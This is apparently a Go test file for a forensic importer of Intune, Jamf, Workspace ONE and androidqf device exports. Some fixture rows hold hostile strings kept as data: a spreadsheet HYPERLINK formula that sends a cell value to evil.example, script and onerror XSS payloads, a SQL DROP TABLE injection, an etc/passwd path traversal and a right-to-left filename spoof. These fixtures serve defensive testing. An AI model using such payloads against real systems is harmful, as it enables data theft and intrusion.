package imports

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/custos-ir/custos/collect"
	"github.com/custos-ir/custos/collect/collecttest"
	"github.com/custos-ir/custos/internal/jsonptr"
)

var clock = time.Date(2024, 6, 12, 8, 0, 0, 0, time.UTC)

// imported is what an import left in a finished staging.
type imported struct {
	dir       string
	source    string
	devices   map[string]collect.Device
	apps      []collect.App
	events    []collect.Event
	gaps      []collect.Gap
	exchanges []collect.Exchange
}

// runImport imports path through collect.Run into a fresh staging.
func runImport(t *testing.T, path, format string, req collect.Request) imported {
	t.Helper()
	im, err := Open(path, format, Options{})
	if err != nil {
		t.Fatal(err)
	}
	im.Now = func() time.Time { return clock }
	dir := t.TempDir()
	st, err := collect.NewStaging(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !req.All && req.Selectors == nil {
		req.All = true
	}
	if err := collect.Run(context.Background(), im, req, st, &collect.Acquisition{ID: "imp"}, func() time.Time { return clock }); err != nil {
		t.Fatal(err)
	}
	out := imported{dir: dir, source: im.Name(), devices: map[string]collect.Device{}}
	for _, d := range collecttest.ReadLines[collect.Device](t, filepath.Join(dir, collect.DevicesFile)) {
		if _, dup := out.devices[d.Key]; dup {
			t.Errorf("device %s written twice", d.Key)
		}
		out.devices[d.Key] = d
	}
	out.apps = collecttest.ReadLines[collect.App](t, filepath.Join(dir, collect.AppsFile))
	out.events = collecttest.ReadLines[collect.Event](t, filepath.Join(dir, collect.EventsFile))
	out.gaps = collecttest.ReadLines[collect.Gap](t, filepath.Join(dir, collect.GapsFile))
	out.exchanges = collecttest.ReadLines[collect.Exchange](t, filepath.Join(dir, "raw", im.Name(), "requests.ndjson"))
	out.checkRefs(t)
	return out
}

// checkRefs checks that every record cites a stored file by its digest
// and that its pointer leads somewhere in it: a line for "/line/N", a JSON
// value for an RFC 6901 pointer.
func (im imported) checkRefs(t *testing.T) {
	t.Helper()
	check := func(what string, ref collect.RawRef) {
		t.Helper()
		resolveRef(t, im.dir, what, ref)
	}
	for _, d := range im.devices {
		check("device "+d.Key, d.Raw)
	}
	for _, a := range im.apps {
		check("app "+a.AppID+a.Name, a.Raw)
	}
	for _, e := range im.events {
		check("event "+e.Type, e.Raw)
	}
}

// resolveRef returns what ref points at: the line, or the JSON value.
func resolveRef(t *testing.T, dir, what string, ref collect.RawRef) string {
	t.Helper()
	if !strings.HasPrefix(ref.Path, "raw/") || path.Clean(ref.Path) != ref.Path {
		t.Fatalf("%s cites %q", what, ref.Path)
	}
	data, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(ref.Path)))
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	sum := sha256.Sum256(data)
	if hex.EncodeToString(sum[:]) != ref.SHA256 {
		t.Fatalf("%s cites %s with the wrong sha256", what, ref.Path)
	}
	if n, ok := strings.CutPrefix(ref.Pointer, "/line/"); ok {
		line, err := strconv.Atoi(n)
		lines := strings.Split(string(data), "\n")
		if err != nil || line < 1 || line > len(lines) {
			t.Fatalf("%s points at line %q of %s, which has %d", what, n, ref.Path, len(lines))
		}
		return lines[line-1]
	}
	if ref.Pointer == "" && path.Ext(ref.Path) != ".json" {
		return string(data) // the whole text file
	}
	raw, err := jsonptr.Resolve(bytes.TrimPrefix(data, bomUTF8), ref.Pointer)
	if err != nil {
		t.Fatalf("%s points at %s#%s: %v", what, ref.Path, ref.Pointer, err)
	}
	return string(raw)
}

// checkKept checks that every input file is stored byte for byte, with a
// request-log line naming it.
func (im imported) checkKept(t *testing.T, inputs map[string]string) {
	t.Helper()
	if len(im.exchanges) != len(inputs) {
		t.Errorf("%d files kept, want %d", len(im.exchanges), len(inputs))
	}
	for _, ex := range im.exchanges {
		src, ok := inputs[strings.TrimPrefix(ex.URL, "file:")]
		if !ok {
			t.Errorf("kept %s, which is not an input", ex.URL)
			continue
		}
		want, _ := os.ReadFile(src)
		got, err := os.ReadFile(filepath.Join(im.dir, "raw", im.source, ex.File))
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s is not kept byte for byte as %s (%v)", ex.URL, ex.File, err)
		}
		if ex.Method != "IMPORT" || ex.SHA256 == "" || ex.Bytes != int64(len(want)) || !strings.HasPrefix(ex.Note, "imported ") {
			t.Errorf("request log line %+v", ex)
		}
	}
}

func (im imported) exchange(name string) collect.Exchange {
	for _, ex := range im.exchanges {
		if ex.URL == "file:"+name {
			return ex
		}
	}
	return collect.Exchange{}
}

// gap returns the gaps of a device ("" for the whole source) and kind.
func (im imported) gap(device, kind string) []collect.Gap {
	var out []collect.Gap
	for _, g := range im.gaps {
		if g.DeviceKey == device && g.Telemetry == kind {
			out = append(out, g)
		}
	}
	return out
}

func (im imported) appsOf(key string) []collect.App {
	var out []collect.App
	for _, a := range im.apps {
		if a.DeviceKey == key {
			out = append(out, a)
		}
	}
	return out
}

func ts(s string) *time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return &t
}

func sameTime(a, b *time.Time) bool {
	return (a == nil) == (b == nil) && (a == nil || a.Equal(*b))
}

// wantSourceGaps checks the source-wide not_supported gaps: exactly the
// kinds the format cannot carry.
func (im imported) wantSourceGaps(t *testing.T, kinds ...string) {
	t.Helper()
	var got []string
	for _, g := range im.gaps {
		if g.DeviceKey == "" {
			if g.Reason != collect.ReasonNotSupported {
				t.Errorf("source gap %+v", g)
			}
			got = append(got, g.Telemetry)
		}
	}
	slices.Sort(got)
	slices.Sort(kinds)
	if !slices.Equal(got, kinds) {
		t.Errorf("source-wide gaps %v, want %v", got, kinds)
	}
}

const (
	iphone = "intune:6f1b7a52-0c1e-4c1a-9a55-0d3c2d7e1a11"
	pixel  = "intune:a7c9e0f1-2b3d-4e5f-8a9b-0c1d2e3f4a5b"
	galaxy = "intune:c0ffee00-dead-4bee-8f00-123456789abc"
	ipad   = "intune:1e2d3c4b-5a69-4788-9a0b-c1d2e3f4a5b6"
)

// An Intune device export and its app inventory by device, imported as a
// folder: the planted jailbroken iPhone, hostile names kept as data, apps
// tied to their devices, and gaps where the inventory is silent.
func TestIntuneCSVFolder(t *testing.T) {
	got := runImport(t, "testdata/intune", "", collect.Request{})
	got.checkKept(t, map[string]string{"intune/devices.csv": "testdata/intune/devices.csv", "intune/apps.csv": "testdata/intune/apps.csv"})
	if len(got.devices) != 4 {
		t.Fatalf("%d devices, want 4", len(got.devices))
	}
	d := got.devices[iphone]
	if d.Compromised != (collect.Compromised{Value: "true", Field: "Jailbroken", RawValue: "True"}) {
		t.Errorf("jailbroken iPhone: compromised %+v", d.Compromised)
	}
	if d.Platform != "ios" || d.Ownership != "corporate" || d.Compliance != "noncompliant" || d.Serial != "F2LXK0ABCD12" ||
		d.User != "jdoe@contoso.com" || d.ManagementMode != "Intune/appleBulkWithUser" || d.Posture.Supervised == nil || !*d.Posture.Supervised {
		t.Errorf("iPhone %+v", d)
	}
	if !sameTime(d.LastSeenAt, ts("2024-06-10T07:55:03Z")) || !sameTime(d.EnrolledAt, ts("2024-02-01T09:12:44Z")) {
		t.Errorf("iPhone times %v %v", d.LastSeenAt, d.EnrolledAt)
	}
	if line := resolveRef(t, got.dir, "iPhone", d.Raw); !strings.Contains(line, "6f1b7a52") || d.Raw.Pointer != "/line/2" {
		t.Errorf("iPhone points at %s: %q", d.Raw.Pointer, line)
	}
	if a := got.devices[pixel]; a.Name != `Smith, Anna's "Pixel"` || a.Ownership != "personal" || a.Platform != "android" ||
		a.SecurityPatchLevel != "2024-05-05" || a.Compromised.Value != "false" {
		t.Errorf("Anna's Pixel %+v", a)
	}
	g := got.devices[galaxy]
	if g.Name != "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")\nsecond line" || g.User != "<script>alert(1)</script>@contoso.com" ||
		g.Model != "SM-S911B\u202egnp.exe" || g.Compromised.Value != "unknown" || g.Compromised.RawValue != "Unknown" {
		t.Errorf("hostile strings not kept as data: %+v", g)
	}
	if g.Raw.Pointer != "/line/4" {
		t.Errorf("a row after a two-line row points at %s", g.Raw.Pointer)
	}
	if p := got.devices[ipad]; p.Platform != "ipados" || p.LastSeenAt != nil || p.Compliance != "inGracePeriod" || p.Raw.Pointer != "/line/6" {
		t.Errorf("iPad %+v", p)
	}
	apps := got.appsOf(iphone)
	if len(apps) != 2 || apps[1].Name != "Sileo" || apps[1].Version != "2.5.1" || apps[1].Publisher != "Sileo Team" ||
		apps[1].InstallSource != "unknown" || apps[1].Raw.Pointer != "/line/3" || !strings.HasPrefix(apps[1].SourceAppID, "9b1e4d7c") {
		t.Errorf("iPhone apps %+v", apps)
	}
	if a := got.appsOf(galaxy); len(a) != 1 || a[0].Name != `Outlook, "the" mail app` {
		t.Errorf("Galaxy apps %+v", a)
	}
	if g := got.gap(pixel, collect.TelemetryAppInventory); len(g) != 1 || g[0].Reason != collect.ReasonPersonalScope {
		t.Errorf("personal device gaps %+v", g)
	}
	if g := got.gap(ipad, collect.TelemetryAppInventory); len(g) != 1 || g[0].Reason != collect.ReasonNotSupported {
		t.Errorf("iPad without apps: gaps %+v", g)
	}
	if g := got.gap(iphone, collect.TelemetryAppInventory); len(g) != 0 {
		t.Errorf("iPhone gaps %+v", g)
	}
	got.wantSourceGaps(t, collect.TelemetryDeviceLogs, collect.TelemetryAdminAudit)
	if note := got.exchange("intune/devices.csv").Note; !strings.Contains(note, "(Enrollment date, Last check-in) read as UTC") ||
		!strings.Contains(note, "/line/N") {
		t.Errorf("note %q does not state the zone and the pointers", note)
	}
}

// The device export alone carries no apps: app_inventory is a gap of the
// whole source, not an empty inventory.
func TestIntuneCSVDevicesOnly(t *testing.T) {
	got := runImport(t, "testdata/intune/devices.csv", FormatIntuneCSV, collect.Request{})
	got.checkKept(t, map[string]string{"devices.csv": "testdata/intune/devices.csv"})
	if len(got.devices) != 4 || len(got.apps) != 0 {
		t.Fatalf("%d devices, %d apps", len(got.devices), len(got.apps))
	}
	got.wantSourceGaps(t, collect.TelemetryAppInventory, collect.TelemetryDeviceLogs, collect.TelemetryAdminAudit)
	for _, g := range got.gaps {
		if g.DeviceKey != "" {
			t.Errorf("device gap %+v without an app inventory", g)
		}
	}
}

// A discovered-apps export counts devices per app: it cannot say which
// device runs what, and is refused rather than imported as nothing.
func TestIntuneAggregateAppsRefused(t *testing.T) {
	_, err := Open("testdata/intune-aggregate", "", Options{})
	if err == nil || !strings.Contains(err.Error(), "discovered-apps export") || !strings.Contains(err.Error(), "by device") {
		t.Fatalf("err = %v", err)
	}
}

// Graph managedDevices as exported: a page with detectedApps expanded, and
// PowerShell's PascalCase array with .NET dates and a byte-order mark.
func TestIntuneJSON(t *testing.T) {
	got := runImport(t, "testdata/intune-json", "", collect.Request{})
	got.checkKept(t, map[string]string{"intune-json/managedDevices.json": "testdata/intune-json/managedDevices.json",
		"intune-json/powershell.json": "testdata/intune-json/powershell.json"})
	if len(got.devices) != 4 {
		t.Fatalf("%d devices", len(got.devices))
	}
	d := got.devices[iphone]
	if d.Compromised != (collect.Compromised{Value: "true", Field: "jailBroken", RawValue: "True"}) || d.Raw.Pointer != "/value/0" ||
		d.Posture.ThreatState != "highSeverity" || !sameTime(d.LastSeenAt, ts("2024-06-10T07:55:03Z")) {
		t.Errorf("iPhone %+v", d)
	}
	if p := got.devices[pixel]; p.Name != "</td><img src=x onerror=alert(1)>" || p.Ownership != "personal" || p.Raw.Pointer != "/value/1" {
		t.Errorf("Pixel %+v", p)
	}
	if p := got.devices[ipad]; p.LastSeenAt != nil || p.Platform != "ipados" {
		t.Errorf("iPad: the year-1 sentinel is not a check-in: %+v", p.LastSeenAt)
	}
	ps := got.devices["intune:b5e2f7a0-3c4d-4e5f-9a8b-7c6d5e4f3a2b"]
	if ps.Name != "LAB-PIXEL-07" || ps.Compromised.Value != "true" || !sameTime(ps.LastSeenAt, ts("2024-06-10T07:55:03Z")) ||
		ps.Posture.Encrypted == nil || !*ps.Posture.Encrypted || ps.Raw.Pointer != "/0" {
		t.Errorf("PowerShell device %+v", ps)
	}
	apps := got.appsOf(iphone)
	if len(apps) != 2 || apps[0].Name != "Sileo" || apps[0].Raw.Pointer != "/value/0/detectedApps/0" || apps[1].Prevalence != 37 {
		t.Errorf("detectedApps %+v", apps)
	}
	if v := resolveRef(t, got.dir, "Sileo", apps[0].Raw); !strings.Contains(v, `"Sileo Team"`) {
		t.Errorf("Sileo points at %s", v)
	}
	if g := got.gap(ipad, collect.TelemetryAppInventory); len(g) != 1 || !strings.Contains(g[0].Detail, "detectedApps") {
		t.Errorf("a device exported without detectedApps: gaps %+v", g)
	}
	if g := got.gap(pixel, collect.TelemetryAppInventory); len(g) != 1 || g[0].Reason != collect.ReasonPersonalScope {
		t.Errorf("personal device: gaps %+v", g)
	}
	got.wantSourceGaps(t, collect.TelemetryDeviceLogs, collect.TelemetryAdminAudit)
	if note := got.exchange("intune-json/managedDevices.json").Note; !strings.Contains(note, "@odata.nextLink") {
		t.Errorf("a partial page is not noted: %q", note)
	}
}

// Jamf Pro: the planted jailbroken iPad, keys by Jamf's id, device state
// only.
func TestJamfCSV(t *testing.T) {
	got := runImport(t, "testdata/jamf/mobile-devices.csv", "", collect.Request{})
	got.checkKept(t, map[string]string{"mobile-devices.csv": "testdata/jamf/mobile-devices.csv"})
	if len(got.devices) != 3 {
		t.Fatalf("%d devices", len(got.devices))
	}
	k := got.devices["jamf:18"]
	if k.Compromised != (collect.Compromised{Value: "true", Field: "Jailbreak Detected", RawValue: "Yes"}) || k.Platform != "ipados" ||
		k.Name != `Kiosk iPad; lobby, "west"` || k.Build != "20H343" || !sameTime(k.LastSeenAt, ts("2024-04-02T16:45:10Z")) {
		t.Errorf("kiosk iPad %+v", k)
	}
	if j := got.devices["jamf:17"]; j.Compromised.Value != "false" || j.Ownership != "corporate" || j.Compliance != "unknown" || j.ManagementMode != "managed" {
		t.Errorf("JD iPhone %+v", j)
	}
	if h := got.devices["jamf:19"]; h.Name != "'; DROP TABLE devices;--" || h.User != "../../etc/passwd" || h.Ownership != "personal" ||
		h.LastSeenAt != nil || h.Compromised.Value != "unknown" {
		t.Errorf("hostile row %+v", h)
	}
	got.wantSourceGaps(t, collect.TelemetryAppInventory, collect.TelemetryDeviceLogs, collect.TelemetryAdminAudit)
	if note := got.exchange("mobile-devices.csv").Note; !strings.Contains(note, "read as UTC") || !strings.Contains(note, "time zone of the account") {
		t.Errorf("note %q", note)
	}
}

// Workspace ONE CSV: the compromised Galaxy, UDID or serial keys, US
// dates whose order a day above 12 shows.
func TestWSOneCSV(t *testing.T) {
	got := runImport(t, "testdata/wsone/devices.csv", FormatWSOneCSV, collect.Request{})
	if len(got.devices) != 3 {
		t.Fatalf("%d devices: %v", len(got.devices), got.devices)
	}
	r := got.devices["wsone:serial:R5CT9876543"]
	if r.Compromised != (collect.Compromised{Value: "true", Field: "Compromised Status", RawValue: "Compromised"}) ||
		r.Platform != "android" || r.OSVersion != "14" || r.Ownership != "personal" || !sameTime(r.LastSeenAt, ts("2024-06-13T23:02:00Z")) {
		t.Errorf("rooted Galaxy %+v", r)
	}
	i := got.devices["wsone:udid:00008110000A1C2E3F"]
	if i.Compromised.Value != "false" || i.Compliance != "noncompliant" || i.Ownership != "corporate" || i.Category != "EMEA" ||
		!sameTime(i.EnrolledAt, ts("2024-02-01T09:12:00Z")) {
		t.Errorf("iPhone %+v", i)
	}
	if n := got.devices["wsone:serial:PX1Z2Y3X4W"]; n.Name != "\x00null\u00a0byte <b>bold</b>" || n.Compliance != "unknown" {
		t.Errorf("hostile name %q", n.Name)
	}
	if note := got.exchange("devices.csv").Note; !strings.Contains(note, "month/day/year (a second number above 12") {
		t.Errorf("note %q", note)
	}
}

// Workspace ONE device search JSON: the compromised verdict, zone-less
// times and the "never" sentinel, a page that is not the whole search.
func TestWSOneJSON(t *testing.T) {
	got := runImport(t, "testdata/wsone/devices.json", "", collect.Request{})
	if len(got.devices) != 2 {
		t.Fatalf("%d devices", len(got.devices))
	}
	g := got.devices["wsone:5615"]
	if g.Compromised != (collect.Compromised{Value: "true", Field: "CompromisedStatus", RawValue: "true"}) || g.EnrolledAt != nil ||
		!sameTime(g.LastSeenAt, ts("2024-06-13T23:02:00Z")) || g.Raw.Pointer != "/Devices/1" || g.Name != "Rooted Galaxy \u202e" {
		t.Errorf("Galaxy %+v", g)
	}
	if i := got.devices["wsone:5614"]; i.Platform != "ios" || i.Compliance != "noncompliant" || !sameTime(i.LastSeenAt, ts("2024-06-10T07:55:03.15Z")) {
		t.Errorf("iPhone %+v", i)
	}
	note := got.exchange("devices.json").Note
	if !strings.Contains(note, "matched 3 devices") || !strings.Contains(note, "(LastSeen, LastEnrolledOn) read as UTC") {
		t.Errorf("note %q", note)
	}
}

const aqfDir = "testdata/androidqf/5f0c7e2a-1b9d-4c3e-8a7f-2d6b9e1c4a30"

// An androidqf acquisition: the planted ORANGE verified boot, the
// sideloaded app with its APK hash and certificate, the posture settings
// and the process listing.
func TestAndroidQF(t *testing.T) {
	got := runImport(t, aqfDir, "", collect.Request{})
	base := filepath.Base(aqfDir)
	inputs := map[string]string{}
	for _, n := range []string{"acquisition.json", "hashes.csv", "getprop.txt", "settings_global.txt", "settings_secure.txt",
		"settings_system.txt", "packages.json", "processes.txt"} {
		inputs[base+"/"+n] = filepath.Join(aqfDir, n)
	}
	got.checkKept(t, inputs)
	key := "androidqf:37091JEHN06852"
	d, ok := got.devices[key]
	if !ok || len(got.devices) != 1 {
		t.Fatalf("devices %v", got.devices)
	}
	yes := func(b *bool) bool { return b != nil && *b }
	if d.Posture.VerifiedBoot != "ORANGE" || !yes(d.Posture.ADBEnabled) || !yes(d.Posture.DeveloperOptions) ||
		!yes(d.Posture.UnknownSources) || !yes(d.Posture.VerifyApps) || !yes(d.Posture.Encrypted) {
		t.Errorf("posture %+v", d.Posture)
	}
	if d.Name != "Anna's <img src=x onerror=alert(1)> Pixel" || d.Platform != "android" || d.SecurityPatchLevel != "2024-05-05" ||
		d.Model != "Pixel 8" || d.Manufacturer != "Google" || d.Serial != "37091JEHN06852" || d.OSVersion != "14" ||
		!strings.HasPrefix(d.Build, "google/shiba/") || !sameTime(d.LastSeenAt, ts("2024-06-11T09:41:12.5Z")) || d.Raw.Pointer != "" {
		t.Errorf("device %+v", d)
	}
	byID := map[string]collect.App{}
	for _, a := range got.apps {
		byID[a.AppID] = a
	}
	want := map[string]string{"com.whatsapp": "store", "com.android.chrome": "system", "com.example.flashlight": "sideloaded",
		"org.example.tool": "sideloaded", "com.contoso.expenses": "enterprise", "org.nuclearfog.apollo": "marketplace", "net.unknownstore.app": "unknown"}
	if len(byID) != len(want) {
		t.Errorf("%d apps, want %d", len(byID), len(want))
	}
	for id, src := range want {
		if byID[id].InstallSource != src {
			t.Errorf("%s: install source %q, want %q", id, byID[id].InstallSource, src)
		}
	}
	fl := byID["com.example.flashlight"]
	if fl.APKSHA256 != "79a3569fbb63a9167ad8a2dad963616bb01474c87d769c7640f6d6810c448eae" || fl.Installer != "null" ||
		fl.SigningCertSHA1 != "4ba9d1f82adb7be841bcf53b03ddae857747199a" ||
		fl.SigningCertSHA256 != "c3e8cafdcd10e7cd9b2ec67f7abd4447b840431126066f6b16ed42151d2b4d64" || fl.Raw.Pointer != "/2" {
		t.Errorf("sideloaded app %+v", fl)
	}
	if v := resolveRef(t, got.dir, "flashlight", fl.Raw); !strings.Contains(v, `"com.example.flashlight"`) {
		t.Errorf("flashlight points at %.80s", v)
	}
	if c := byID["com.android.chrome"]; c.APKSHA256 != "" || c.SigningCertSHA256 != "" {
		t.Errorf("empty digests read as %+v", c)
	}
	if byID["org.example.tool"].State != "disabled" {
		t.Errorf("disabled package %+v", byID["org.example.tool"])
	}
	if len(got.events) != 6 {
		t.Fatalf("%d events", len(got.events))
	}
	var names []string
	for _, e := range got.events {
		if e.Type != EventProcessRunning || !e.Time.Equal(*ts("2024-06-11T09:30:00.123456Z")) || e.DeviceKey != key {
			t.Errorf("event %+v", e)
		}
		names = append(names, e.Fields["process_name"].(string))
		if e.Fields["process_name"] == "com.example.flashlight:remote svc" {
			if e.Fields["pid"] != 4250.0 || e.Fields["ppid"] != 4242.0 || e.Fields["user"] != "u0_a290" || e.Raw.Pointer != "/line/6" {
				t.Errorf("process with a blank WCHAN and a space in its name: %+v", e)
			}
		}
	}
	if !slices.Contains(names, "com.example.flashlight:remote svc") || !slices.Contains(names, "[kthreadd]") || !slices.Contains(names, "ps") {
		t.Errorf("process names %q", names)
	}
	got.wantSourceGaps(t, collect.TelemetryDeviceLogs, collect.TelemetryAdminAudit)
	if note := got.exchange(base + "/packages.json").Note; !strings.Contains(note, "hashes.csv line 3") {
		t.Errorf("packages.json note %q", note)
	}
}

// Selectors pick devices by what the export has (serial, user, name), and
// the apps and gaps of the devices not picked stay out.
func TestSelectors(t *testing.T) {
	sel := func(s string) collect.Selector {
		v, err := collect.ParseSelector(s)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	got := runImport(t, "testdata/intune", "", collect.Request{Selectors: []collect.Selector{sel("serial:F2LXK0ABCD12"), sel("user:ANNA.SMITH@contoso.com")}})
	if len(got.devices) != 2 || got.devices[iphone].Key == "" || got.devices[pixel].Key == "" {
		t.Fatalf("devices %v", got.devices)
	}
	if len(got.apps) != 2 || len(got.appsOf(iphone)) != 2 {
		t.Errorf("apps %+v", got.apps)
	}
	for _, g := range got.gaps {
		if g.DeviceKey != "" && g.DeviceKey != pixel {
			t.Errorf("gap of a device not selected: %+v", g)
		}
	}
	if len(got.exchanges) != 2 {
		t.Errorf("the whole export is the evidence, whatever is selected: %d files kept", len(got.exchanges))
	}
}

// A semicolon-separated export with US dates, none with a day above 12:
// the order is assumed, and the note says so.
func TestSemicolonsAndAssumedDateOrder(t *testing.T) {
	p := filepath.Join(t.TempDir(), "export.csv")
	os.WriteFile(p, []byte("Device ID;Device name;Last check-in;Primary user UPN;OS\n"+
		"d1;\"Phone; one\";6/10/2024 7:55:03 AM;a@b.c;Android\n"+
		"d2;Phone two;6/9/2024 11:00:00 PM;a@b.c;iOS\n"), 0o644)
	got := runImport(t, p, "", collect.Request{})
	if d := got.devices["intune:d1"]; d.Name != "Phone; one" || !sameTime(d.LastSeenAt, ts("2024-06-10T07:55:03Z")) {
		t.Errorf("d1 %+v", d)
	}
	if d := got.devices["intune:d2"]; !sameTime(d.LastSeenAt, ts("2024-06-09T23:00:00Z")) || d.Platform != "ios" {
		t.Errorf("d2 %+v", d)
	}
	if note := got.exchange("export.csv").Note; !strings.Contains(note, "no date of the file shows the order") {
		t.Errorf("note %q", note)
	}
}

// Describe lists each file as an endpoint and claims only what the files
// carry.
func TestDescribe(t *testing.T) {
	im, err := NewIntuneCSV("testdata/intune")
	if err != nil {
		t.Fatal(err)
	}
	d := im.Describe()
	if d.Name != "intune" || !slices.Equal(d.Endpoints, []string{"file:intune/apps.csv", "file:intune/devices.csv"}) ||
		!slices.Equal(d.Telemetry, []string{collect.TelemetryDeviceState, collect.TelemetryAppInventory}) {
		t.Errorf("%+v", d)
	}
	if _, err := json.Marshal(d); err != nil {
		t.Fatal(err)
	}
	src, err := New("testdata/jamf/mobile-devices.csv", FormatJamfCSV)
	if err != nil || src.Name() != "jamf" || !slices.Equal(src.Describe().Telemetry, []string{collect.TelemetryDeviceState}) {
		t.Errorf("%v %+v", err, src)
	}
}
